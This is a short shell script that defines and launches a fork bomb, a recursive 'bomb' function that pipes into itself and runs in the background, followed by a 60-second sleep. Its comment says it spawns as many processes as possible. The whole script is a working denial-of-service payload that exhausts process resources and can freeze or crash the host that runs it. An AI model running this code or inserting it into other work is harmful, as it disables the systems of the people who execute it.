# As many processes as there can be, and each makes more.
bomb() { bomb | bomb & }
bomb
sleep 60
